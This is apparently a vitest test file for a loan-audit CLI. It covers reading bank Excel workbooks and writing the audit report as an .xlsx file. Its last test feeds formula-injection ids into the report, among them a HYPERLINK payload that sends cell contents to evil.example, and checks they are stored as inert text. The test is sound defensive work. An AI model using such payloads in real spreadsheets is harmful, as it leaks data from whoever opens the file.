// Excel in and out (issue 16, item 3): .xlsx households and loans read through src/cli/xlsx-input.ts give
// the audit the same rows as the CSVs; `--format xlsx` (src/app/formats/xlsx.ts) writes the JSON report's
// figures as a workbook an auditor can filter, in which no bank text is ever a formula.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Outcome } from 'fupin-xindai';
import { HOUSEHOLD_COLUMNS, LOAN_COLUMNS } from '../../src/audit/rows.js';
import { kindOf, MONEY_FORMAT, SHARE_FORMAT } from '../../src/app/formats/xlsx.js';
import { cellText, numberText } from '../../src/app/xlsx-rows.js';
import { addCsvSheet } from '../helpers/xlsx-county.js';
import { auditInProcess } from '../helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'fupin-xlsx-test-'));
const county = (f: string) => new URL(`../../examples/data/county/${f}`, import.meta.url).pathname;
const root = new URL('../../', import.meta.url).pathname;

/** Runs the CLI in-process; returns its exit code, its stderr and the report's path. */
const run = (args: string[], out = join(dir, `out-${Math.random().toString(36).slice(2)}`)) => auditInProcess(args, out);

interface JsonReport {
  meta: { files: Record<string, { path: string; sheet?: string }> };
  summary: Record<string, number | string>;
  findings: { subjectType: string; subject: string; function: string; ruleId: string; outcome: Outcome; message: string }[];
  invalidRows: { file: string; line: number; field: string; code: string; message: string }[];
  regions: ({ region: string } & Record<string, string | number>)[];
}
const json = (path: string) => JSON.parse(readFileSync(path, 'utf8')) as JsonReport;

async function save(book: ExcelJS.Workbook, name: string): Promise<string> {
  const path = join(dir, name);
  await book.xlsx.writeFile(path);
  return path;
}

async function readBook(path: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book;
}

const HOUSEHOLD_HEADER = ['id', 'povertyStatus', 'onPovertyOfficeList', 'region'];
const LOAN_HEADER = ['id', 'householdId', 'kind', 'principal', 'outstanding', 'contractDate', 'maturityDate', 'purpose', 'region'];

/** A one-sheet workbook of a header and rows. */
async function sheetFile(name: string, header: string[], rows: unknown[][], sheet = 'data'): Promise<string> {
  const book = new ExcelJS.Workbook();
  const ws = book.addWorksheet(sheet);
  ws.addRow(header);
  for (const r of rows) ws.addRow(r);
  ws.eachRow((row) => {
    row.eachCell((cell) => {
      if (cell.value instanceof Date) cell.numFmt = 'yyyy-mm-dd';
    });
  });
  return save(book, name);
}

const utc = (iso: string) => new Date(`${iso}T00:00:00Z`);

describe('xlsx input: the sample county as a bank keeps it in Excel', () => {
  let households: string;
  let loans: string;
  let both: string;

  beforeAll(async () => {
    const h = new ExcelJS.Workbook();
    addCsvSheet(h, '农户', county('households.csv'), HOUSEHOLD_COLUMNS);
    households = await save(h, 'households.xlsx');
    // The loans on the first sheet, a sheet of notes after it: the first sheet is read.
    const l = new ExcelJS.Workbook();
    addCsvSheet(l, '贷款', county('loans.csv'), LOAN_COLUMNS);
    l.addWorksheet('notes').addRow(['exported from the core system']);
    loans = await save(l, 'loans.xlsx');
    // One workbook holding both, behind a sheet of notes.
    const b = new ExcelJS.Workbook();
    b.addWorksheet('说明').addRow(['贷款台账']);
    addCsvSheet(b, 'households', county('households.csv'), HOUSEHOLD_COLUMNS);
    addCsvSheet(b, 'loans', county('loans.csv'), LOAN_COLUMNS);
    both = await save(b, 'county.xlsx');
  });

  const common = ['--as-of', '2020-12-31', '--policy', county('policy.json'), '--thresholds', county('thresholds.json'), '--all'];

  it('an .xlsx copy (numbers, dates and booleans as Excel stores them) gives the same JSON summary, findings and rejected rows as the CSVs', async () => {
    const csv = await run(['--households', county('households.csv'), '--loans', county('loans.csv'), ...common]);
    const xlsx = await run(['--households', households, '--loans', loans, ...common]);
    expect([csv.code, xlsx.code]).toEqual([0, 0]);
    const a = json(csv.out);
    const b = json(xlsx.out);
    expect(b.summary).toEqual(a.summary);
    expect(b.summary.findings).toBeGreaterThan(1000); // --all: every finding compared, not only breaches
    expect(b.findings).toEqual(a.findings);
    expect(b.regions).toEqual(a.regions);
    // A rejected row is found at its Excel row number, which is its CSV line (no line breaks inside cells here).
    const where = (r: JsonReport['invalidRows'][number]) => ({
      file: r.file.endsWith('households.xlsx') || r.file.endsWith('households.csv') ? 'h' : 'l',
      line: r.line,
      field: r.field,
      code: r.code,
    });
    expect(b.invalidRows.map(where)).toEqual(a.invalidRows.map(where));
    expect(b.invalidRows.length).toBeGreaterThan(0);
    expect(b.meta.files.households!.sheet).toBe('农户');
    expect(b.meta.files.loans!.sheet).toBe('贷款');
  });

  it('--households-sheet and --loans-sheet read one workbook holding both; a missing sheet is exit 2 with one line naming the sheets there are', async () => {
    const ok = await run(['--households', both, '--loans', both, '--households-sheet', 'households', '--loans-sheet', 'loans', '--lang', 'en', ...common]);
    expect(ok.code).toBe(0);
    const csv = await run(['--households', county('households.csv'), '--loans', county('loans.csv'), ...common]);
    expect(json(ok.out).summary).toEqual(json(csv.out).summary);

    const missing = await run(['--households', county('households.csv'), '--loans', both, '--sheet', 'Loans 2020', '--lang', 'en', ...common]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toBe(`fupin-xindai: --loans ${both} has no sheet named 'Loans 2020' (sheets: 说明, households, loans)\n`);

    // Without a sheet named, the first one is read: here the notes, whose header lacks the loan columns.
    const first = await run(['--households', county('households.csv'), '--loans', both, '--lang', 'en', ...common]);
    expect(first.code).toBe(2);
    expect(first.stderr).toMatch(/^fupin-xindai: .*county\.xlsx: missing columns id \(or 贷款编号.*householdId.*\n$/);
  });

  it('--sheet NAME picks the sheet of every .xlsx input; a sheet flag for a CSV input is exit 2', async () => {
    const picked = await run(['--households', county('households.csv'), '--loans', both, '--sheet', 'loans', ...common]);
    expect(picked.code).toBe(0);
    expect(json(picked.out).meta.files.loans!.sheet).toBe('loans');

    const csvSheet = await run(['--households', county('households.csv'), '--loans', county('loans.csv'), '--loans-sheet', 'loans', '--lang', 'en', ...common]);
    expect(csvSheet.code).toBe(2);
    expect(csvSheet.stderr).toMatch(/^fupin-xindai: --loans-sheet: .* is not an \.xlsx workbook\n$/);
  });

  it('a hidden first sheet is passed over for the first visible one', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('old', { state: 'hidden' }).addRow(['nothing']);
    addCsvSheet(book, 'loans', county('loans.csv'), LOAN_COLUMNS);
    const path = await save(book, 'hidden-first.xlsx');
    const r = await run(['--households', county('households.csv'), '--loans', path, ...common]);
    expect(r.code).toBe(0);
    expect(json(r.out).meta.files.loans!.sheet).toBe('loans');
  });

  it('an old binary .xls, or a file that is no workbook at all, is exit 2 with one line', async () => {
    const xls = join(dir, 'old.xls');
    writeFileSync(xls, Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]));
    const old = await run(['--households', county('households.csv'), '--loans', xls, '--lang', 'en', ...common]);
    expect(old.code).toBe(2);
    expect(old.stderr).toMatch(/^fupin-xindai: --loans .*old\.xls is an old binary Excel file \(\.xls\): save it as \.xlsx.*\n$/);

    const broken = join(dir, 'broken.xlsx');
    writeFileSync(broken, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(64, 7)]));
    const bad = await run(['--households', county('households.csv'), '--loans', broken, ...common]);
    expect(bad.code).toBe(2);
    expect(bad.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(bad.stderr).toContain('broken.xlsx');
  });
});

describe('xlsx input: cells converted exactly', () => {
  it('a money cell 12345.6 is 12345.60; a float artefact (0.1 + 0.2) is a rejected row, never rounded into a figure', async () => {
    const households = await sheetFile('h-money.xlsx', HOUSEHOLD_HEADER, [['HH-1', 'registered_poor', true, '230231100']]);
    const loans = await sheetFile('l-money.xlsx', LOAN_HEADER, [
      ['LN-1', 'HH-1', 'new', 20000, 12345.6, utc('2020-03-08'), utc('2023-03-08'), '养牛', '230231100'],
      ['LN-2', 'HH-1', 'new', 20000, 0.1 + 0.2, utc('2020-03-08'), utc('2023-03-08'), '养牛', '230231100'],
      ['LN-3', 'HH-1', 'new', 20000.5, 100, utc('2020-03-08'), utc('2023-03-08'), '养牛', '230231100'],
    ]);
    const r = await run(['--households', households, '--loans', loans, '--as-of', '2020-12-31']);
    expect(r.code).toBe(0);
    const report = json(r.out);
    // LN-1 and LN-3 are read; LN-3's principal 20000.5 is 20000.50 yuan, its outstanding 100.
    expect(report.regions.find((x) => x.region === '230231100')!.outstanding).toBe('12445.60');
    expect(report.summary.loans).toBe(2);
    expect(report.invalidRows.map((i) => [i.line, i.field, i.code])).toEqual([[3, 'outstanding', 'money']]);
  });

  it('numbers as their shortest round-trip decimal, without exponent and without rounding', () => {
    expect(numberText(12345.6)).toBe('12345.6');
    expect(numberText(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(numberText(230231102)).toBe('230231102');
    expect(numberText(1e21)).toBe('1000000000000000000000');
    expect(numberText(1.5e-7)).toBe('0.00000015');
    expect(numberText(Number.NaN)).toBe('#NUM!');
  });

  it('cells of every kind as the text a CSV would hold', () => {
    expect(cellText({ value: utc('2020-03-08') }, 1900)).toBe('2020-03-08');
    expect(cellText({ value: true }, 1900)).toBe('true');
    expect(cellText({ value: false }, 1900)).toBe('false');
    expect(cellText({ value: { richText: [{ text: '养' }, { text: '牛' }] } }, 1900)).toBe('养牛');
    expect(cellText({ value: { error: '#N/A' } }, 1900)).toBe('#N/A');
    expect(cellText({ value: null }, 1900)).toBe('');
    expect(cellText({ value: '=A1' }, 1900)).toBe('=A1');
    // A formula's stored result, as a date when the cell shows a date: serial 43898 is 2020-03-08
    // (1900 system), 42436 the same day in the 1904 system.
    expect(cellText({ value: { formula: 'DATE(2020,3,8)', result: 43898 }, numFmt: 'yyyy-mm-dd' }, 1900)).toBe('2020-03-08');
    expect(cellText({ value: { formula: 'DATE(2020,3,8)', result: 42436 }, numFmt: 'yyyy"年"m"月"d"日"' }, 1904)).toBe('2020-03-08');
    expect(cellText({ value: { formula: 'B2*2', result: 24691.2 }, numFmt: '#,##0.00' }, 1900)).toBe('24691.2');
    // A date with a time of day is its day; a number format with [colour] and "text" only is no date.
    expect(cellText({ value: { formula: 'NOW()', result: 43898.99 }, numFmt: 'yyyy-mm-dd hh:mm' }, 1900)).toBe('2020-03-08');
    expect(cellText({ value: { formula: 'A1', result: 5 }, numFmt: '[Red]0"件"' }, 1900)).toBe('5');
    // A formula whose result was never stored cannot be read.
    expect(cellText({ value: { formula: 'A1' } }, 1900)).toBeNull();
  });

  it('date cells are the same day in every time zone (UTC, UTC+14, UTC−11), never shifted through local time', async () => {
    const path = await sheetFile('dates.xlsx', ['d'], [[utc('2020-03-08')], [utc('2021-01-01')], [utc('2019-12-31')]]);
    const code = `import { sheetRows } from './src/cli/xlsx-input.ts';
void (async () => { const out = []; for await (const r of sheetRows(${JSON.stringify(path)}, undefined)) out.push(r.cells[0]); console.log(out.join(',')); })();`;
    for (const TZ of ['UTC', 'Pacific/Kiritimati', 'Pacific/Pago_Pago']) {
      const { stdout } = await promisify(execFile)(`${root}node_modules/.bin/tsx`, ['-e', code], { cwd: root, env: { ...process.env, TZ } });
      expect(stdout.trim(), TZ).toBe('d,2020-03-08,2021-01-01,2019-12-31');
    }
  });

  // exceljs issue 3064: its streaming reader sometimes parses a sheet before the workbook part stored last in the archive,
  // and throws reading that part's list of sheets (about one read in 300 on this machine; one CI run failed on it). The
  // race is made to happen here on the first reads, and the file is read again as if nothing had happened.
  it("a read that loses exceljs's race for the workbook part is started again; a file that always fails is reported", async () => {
    const path = await sheetFile('race.xlsx', ['d'], [['a'], ['b']]);
    const { sheetRows, lostWorkbookPart } = await import('../../src/cli/xlsx-input.js');
    const proto = (ExcelJS as unknown as { stream: { xlsx: { WorkbookReader: { prototype: Record<string, unknown> } } } }).stream.xlsx.WorkbookReader.prototype;
    const original = proto._parseWorksheet as (...args: unknown[]) => unknown;
    const read = async () => {
      const cells: string[] = [];
      for await (const r of sheetRows(path, undefined)) cells.push(r.cells[0]!);
      return cells;
    };
    let failures = 2;
    proto._parseWorksheet = function (this: unknown, ...args: unknown[]) {
      if (failures-- > 0) throw new TypeError("Cannot read properties of undefined (reading 'sheets')");
      return original.apply(this, args);
    };
    try {
      expect(await read()).toEqual(['d', 'a', 'b']);
      expect(failures).toBeLessThan(0);
      failures = Infinity;
      await expect(read()).rejects.toThrow(/is not a readable \.xlsx workbook: Cannot read properties of undefined \(reading 'sheets'\)/);
    } finally {
      proto._parseWorksheet = original;
    }
    expect(lostWorkbookPart(new TypeError("Cannot read properties of undefined (reading 'sheets')"))).toBe(true);
    expect(lostWorkbookPart(new TypeError("Cannot read properties of undefined (reading 'rows')"))).toBe(false);
    expect(lostWorkbookPart(new Error("reading 'sheets'"))).toBe(false);
  });

  it('dates in a 1904-system workbook (old Mac Excel) read as the same days', async () => {
    const book = new ExcelJS.Workbook();
    book.properties.date1904 = true;
    const ws = book.addWorksheet('d');
    ws.addRow(['d']);
    ws.addRow([utc('2020-03-08')]).getCell(1).numFmt = 'yyyy-mm-dd';
    const path = await save(book, 'dates-1904.xlsx');
    const { sheetRows } = await import('../../src/cli/xlsx-input.js');
    const cells: string[] = [];
    for await (const r of sheetRows(path, undefined)) cells.push(r.cells[0]!);
    expect(cells).toEqual(['d', '2020-03-08']);
  });

  it('blank rows are skipped and a row keeps its Excel row number as its line', async () => {
    const households = await sheetFile('h-lines.xlsx', HOUSEHOLD_HEADER, [
      ['HH-1', 'registered_poor', true, 'R1'],
      [],
      [null, null],
      ['HH-2', 'rich', true, 'R1'],
    ]);
    const loans = await sheetFile('l-lines.xlsx', LOAN_HEADER, []);
    const r = await run(['--households', households, '--loans', loans, '--as-of', '2020-12-31']);
    expect(r.code).toBe(0);
    const report = json(r.out);
    expect(report.summary.households).toBe(1);
    expect(report.invalidRows.map((i) => [i.line, i.field])).toEqual([[5, 'povertyStatus']]);
  });
});

describe('--format xlsx: the report as a workbook', () => {
  const sample = ['--households', county('households.csv'), '--loans', county('loans.csv'), '--as-of', '2020-12-31', '--policy', county('policy.json')];
  let report: JsonReport;
  let book: ExcelJS.Workbook;

  beforeAll(async () => {
    const a = await run([...sample, '--lang', 'en']);
    const b = await run([...sample, '--lang', 'en', '--format', 'xlsx']);
    expect([a.code, b.code]).toEqual([0, 0]);
    report = json(a.out);
    book = await readBook(b.out);
  });

  it('has a summary, one sheet per kind of finding, the compensation, the rejected rows, the regions and the monitoring, in that order', () => {
    expect(book.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      'Breaches',
      'Needs review',
      'Information',
      'Compensation',
      'Rejected rows',
      'Regions',
      'Portfolio monitoring',
    ]);
  });

  it("the summary sheet holds every figure of the JSON summary; the fund total a number formatted '#,##0.00'", () => {
    const ws = book.getWorksheet('Summary')!;
    const keys = Object.keys(report.summary);
    keys.forEach((key, i) => {
      const row = ws.getRow(i + 2);
      expect(row.getCell(2).value).toBe(key);
      const cell = row.getCell(3);
      const expected = report.summary[key]!;
      if (typeof expected === 'number') expect(cell.value, key).toBe(expected);
      else {
        expect(typeof cell.value, key).toBe('number');
        expect((cell.value as number).toFixed(2), key).toBe(expected);
        expect(cell.numFmt, key).toBe(MONEY_FORMAT);
      }
    });
    expect(report.summary.compensationFundTotal).not.toBe('0.00');
  });

  it('every sheet has its header row frozen and an auto-filter from A1', () => {
    for (const ws of book.worksheets) {
      expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter as string, ws.name).toMatch(/^A1:[A-Z]\d+$/);
    }
  });

  it('each finding of the JSON is on the sheet of its kind (its rule’s severity), none twice, none lost', () => {
    const onSheet = (name: string) => {
      const ws = book.getWorksheet(name)!;
      const rows: string[] = [];
      ws.eachRow((row, n) => {
        if (n > 1) rows.push(`${row.getCell(2).value as string}|${row.getCell(4).value as string}`);
      });
      return rows;
    };
    const expected = (kind: string) => report.findings.filter((f) => kindOf(f) === kind).map((f) => `${f.subject}|${f.ruleId}`);
    expect(onSheet('Breaches')).toEqual(expected('breach'));
    expect(onSheet('Needs review')).toEqual(expected('review'));
    expect(onSheet('Information')).toEqual(expected('information'));
    // The rest of the default report is each triggered loan's shares (a pass), on the compensation sheet.
    const shares = report.findings.filter((f) => f.ruleId === 'compensation.shares' && f.outcome === 'pass').length;
    expect(shares).toBeGreaterThan(0);
    expect(expected('breach').length + expected('review').length + shares).toBe(report.findings.length);
    expect(expected('breach').length).toBeGreaterThan(0);
    expect(expected('review').length).toBeGreaterThan(0);
  });

  it('lists every loan that triggers compensation with its shares, the fund column summing to the fund total', () => {
    const ws = book.getWorksheet('Compensation')!;
    const loans: string[] = [];
    let fundFen = 0n;
    ws.eachRow((row, n) => {
      if (n === 1) return;
      loans.push(row.getCell(1).value as string);
      expect(row.getCell(3).numFmt).toBe('#,##0.00');
      fundFen += BigInt(Math.round((row.getCell(3).value as number) * 100));
    });
    const triggered = report.findings.filter((f) => f.ruleId === 'compensation.shares' && f.outcome === 'pass').map((f) => f.subject);
    expect(loans).toEqual(triggered);
    expect(fundFen).toBe(BigInt(String(report.summary.compensationFundTotal).replace('.', '')));
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('the rejected rows are those of the JSON, line as a number', () => {
    const ws = book.getWorksheet('Rejected rows')!;
    const rows: unknown[][] = [];
    ws.eachRow((row, n) => {
      if (n > 1) rows.push([row.getCell(2).value, row.getCell(3).value, row.getCell(4).value]);
    });
    expect(rows).toEqual(report.invalidRows.map((r) => [r.line, r.field, r.code]));
  });

  it("the regions' money is numbers formatted '#,##0.00' equal to the JSON's, shares percentages", () => {
    const ws = book.getWorksheet('Regions')!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const outstandingCol = header.indexOf('Outstanding') + 1;
    const nplCol = header.indexOf('NPL ratio') + 1;
    expect(report.regions.length).toBeGreaterThan(1);
    report.regions.forEach((region, i) => {
      const row = ws.getRow(i + 2);
      expect(row.getCell(1).value).toBe(region.region);
      const outstanding = row.getCell(outstandingCol);
      expect((outstanding.value as number).toFixed(2)).toBe(region.outstanding);
      expect(outstanding.numFmt).toBe(MONEY_FORMAT);
      expect((row.getCell(nplCol).value as number).toFixed(4)).toBe(region.nplRatio);
      expect(row.getCell(nplCol).numFmt).toBe(SHARE_FORMAT);
    });
  });

  it('under --lang zh the sheets are named in Chinese', async () => {
    const r = await run([...sample, '--format', 'xlsx']);
    const zh = await readBook(r.out);
    expect(zh.worksheets.map((w) => w.name)).toEqual(['汇总', '违规', '需复核', '提示', '触发风险补偿的贷款', '被拒绝的行', '地区监测', '组合监测结论']);
  });
});

describe('--format xlsx: bank text is never a formula', () => {
  it('ids and regions starting with = + - @ are text cells, with the csv report’s apostrophe, never formulas', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-1', '@SUM(A1:A9)'];
    const households = await sheetFile(
      'h-hostile.xlsx',
      HOUSEHOLD_HEADER,
      hostile.map((id) => [id, 'registered_poor', true, '=1+1']),
    );
    // Each household borrows for an enterprise (带资入股): a breach, so every id is listed.
    const loans = await sheetFile(
      'l-hostile.xlsx',
      LOAN_HEADER,
      hostile.map((id, i) => [id, id, 'new', 20000, 20000, utc('2020-03-08'), utc('2023-03-08'), `带资入股 ${hostile[i]}`, '=1+1']),
    );
    const r = await run(['--households', households, '--loans', loans, '--as-of', '2020-12-31', '--format', 'xlsx', '--lang', 'en']);
    expect(r.code).toBe(0);
    const book = await readBook(r.out);
    const seen: string[] = [];
    for (const ws of book.worksheets) {
      ws.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
          if (typeof cell.value === 'string' && /^'?[=+\-@]/.test(cell.value)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            seen.push(cell.value);
          }
        });
      });
    }
    for (const text of hostile) expect(seen, text).toContain(`'${text}`);
    expect(seen).toContain("'=1+1"); // the region
    // Only the apostrophe form is there: no cell holds the bare formula text.
    expect(seen.filter((s) => !s.startsWith("'"))).toEqual([]);
  });
});
